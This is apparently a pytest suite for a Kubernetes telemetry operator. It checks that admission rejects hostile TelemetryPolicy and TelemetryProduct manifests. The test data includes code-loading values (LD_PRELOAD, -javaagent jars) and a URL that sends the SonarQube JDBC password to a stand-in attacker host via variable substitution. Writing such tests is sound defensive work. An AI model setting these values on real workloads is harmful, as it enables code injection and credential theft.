"""TelemetryProducts and related settings in hostile hands."""

from __future__ import annotations

import json
from typing import Any

import pytest

from tests.support.world import SONARQUBE, Manifest, Space, World, container, eventually, policy
from tests.support.world import workload as workload_of

pytestmark = pytest.mark.cluster


def product(name: str, pattern: str, *, switch: str = "ACME_TELEMETRY", **spec: Any) -> Manifest:
    env = {"name": switch, "disabled": "no"}
    rule = {"default": "On", "switches": [{"semantics": "Start", "env": env}]}
    return {
        "apiVersion": "fleettelemetry.io/v1alpha1",
        "kind": "TelemetryProduct",
        "metadata": {"name": name},
        "spec": {
            "title": "Acme",
            "images": [{"pattern": pattern}],
            "channels": [{"name": "Usage", "rules": [rule]}],
            **spec,
        },
    }


def tenant(space: Space) -> list[str]:
    """The flags of a user who may write TelemetryPolicies in the namespace, and nothing else."""
    meta = {"name": "policies-only", "namespace": space.name}
    rules = [
        {"apiGroups": ["fleettelemetry.io"], "resources": ["telemetrypolicies"], "verbs": ["*"]}
    ]
    rbac = "rbac.authorization.k8s.io"
    space.apply(
        {"apiVersion": f"{rbac}/v1", "kind": "Role", "metadata": meta, "rules": rules},
        {
            "apiVersion": f"{rbac}/v1",
            "kind": "RoleBinding",
            "metadata": meta,
            "roleRef": {"apiGroup": rbac, "kind": "Role", "name": "policies-only"},
            "subjects": [{"apiGroup": rbac, "kind": "User", "name": "tenant"}],
        },
    )
    return ["--as=tenant"]


@pytest.mark.parametrize(
    ("name", "value"),
    [
        ("LD_PRELOAD", "/tmp/x.so"),
        ("SONAR_WEB_JAVAOPTS", "-javaagent:/tmp/x.jar"),
        ("https_proxy", "http://c2.attacker.example"),
        # The CRD leaves these to admission.
        ("java.tool.options", "-javaagent:/tmp/x.jar"),
        ("SONAR_PLUGINS_DIR", "/tmp"),
        ("SONAR_TELEMETRY_URL", "https://c2.attacker.example/$(SONAR_JDBC_PASSWORD)"),
    ],
)
def test_a_tenant_with_policies_alone_sets_no_variable_that_loads_code(
    space: Space, name: str, value: str
) -> None:
    flags = tenant(space)
    settings = [{"product": "sonarqube", "env": [{"name": name, "value": value}]}]
    evil = policy(injection={"settings": settings, "rollout": "Immediate"})
    done = space.try_apply(evil, flags=flags)
    assert done.returncode != 0
    assert "set" in done.stderr
    assert "Forbidden" not in done.stderr
    space.apply(workload_of("Deployment", "s", container(SONARQUBE)))
    assert name not in space.env("deployment", "s")
    # The tenant may write a policy as such.
    good = policy(
        injection={"settings": [{"product": "sonarqube", "env": [{"name": "LOG", "value": "x"}]}]}
    )
    assert space.try_apply(good, flags=flags).returncode == 0


@pytest.mark.parametrize(
    ("evil", "words"),
    [
        (product("evil", "*"), "the last part of the pattern names the image"),
        (product("evil", "*server*"), "covers images of other software"),
        (product("evil", "acme/evil", switch="LD_PRELOAD"), "may not be set here"),
        (product("evil", "acme/evil", switch="ACME_PLUGINS"), "may not be a switch"),
        (product("emqx", "acme/evil"), "spec.overridesBuiltin: true"),
        (product("evil", "emqx/emqx"), "belongs to the built-in product emqx"),
        (product("evil", "emqx/emq?", overridesBuiltin=True), "belongs to the built-in product"),
    ],
)
def test_who_writes_products_is_refused(world: World, evil: Manifest, words: str) -> None:
    done = world.try_apply(evil)
    assert done.returncode != 0
    assert words in done.stderr


def test_a_second_product_with_an_image_is_refused(world: World, space: Space) -> None:
    first, second = f"{space.name[:40]}-1", f"{space.name[:40]}-2"
    world.apply(product(first, f"{space.name}/acme"))
    try:
        _accepted(world, first)
        done = world.try_apply(product(second, f"{space.name}/acm*"))
        assert done.returncode != 0
        assert f"belongs to the TelemetryProduct {first}" in done.stderr
    finally:
        world.cluster.kubectl("delete", "tprod", first)


def test_a_replaced_built_in_product_is_told(world: World) -> None:
    done = world.try_apply(product("sourcegraph", "acme/graph", overridesBuiltin=True))
    try:
        assert "it replaces the built-in product sourcegraph, whole" in done.stderr

        def events() -> list[Manifest]:
            listed = world.cluster.kubectl(
                "get", "events", "--namespace=default", "--output=json",
                "--field-selector=involvedObject.name=sourcegraph",
            ).stdout  # fmt: skip
            found: list[Manifest] = json.loads(listed)["items"]
            return found

        (event,) = eventually(events, say="the event")
        assert event["reason"] == "BuiltinProductOverridden"
        conditions = world.get("tprod", "sourcegraph")["status"]["conditions"]
        states = {one["type"]: one["status"] for one in conditions}
        assert (states["Accepted"], states["OverridesBuiltin"]) == ("True", "True")
    finally:
        world.cluster.kubectl("delete", "tprod", "sourcegraph")


def test_a_policy_covers_a_product_of_the_cluster_only_by_name(world: World, space: Space) -> None:
    name = f"{space.name[:40]}-named"
    world.apply(product(name, f"{space.name}/acme"))
    try:
        _accepted(world, name)
        eventually(
            lambda: (
                f"{space.name}/acme"
                in json.dumps(world.get("mutatingwebhookconfiguration", "fleet-telemetry-products"))
            ),
            say="the image in the second webhook configuration",
        )
        space.policy()
        image = f"registry.example/{space.name}/acme:1.0"
        space.apply(workload_of("Deployment", "unnamed", container(image)))
        space.telemetry("Deployment", "unnamed", declared="Unset")
        assert space.env("deployment", "unnamed") == {}
        _wait_for(world, name, "Covered", "False")
        space.policy(additionalProducts=[name])
        space.apply(workload_of("Deployment", "named", container(image)))
        assert space.env("deployment", "named") == {"ACME_TELEMETRY": "no"}
        _wait_for(world, name, "Covered", "True")
    finally:
        world.cluster.kubectl("delete", "tprod", name)


def _accepted(world: World, name: str) -> None:
    _wait_for(world, name, "Accepted", "True")


def _wait_for(world: World, name: str, condition: str, status: str) -> None:
    def holds() -> bool:
        conditions = world.get("tprod", name).get("status", {}).get("conditions", [])
        return any((one["type"], one["status"]) == (condition, status) for one in conditions)

    eventually(holds, say=f"{condition}={status} of the product")
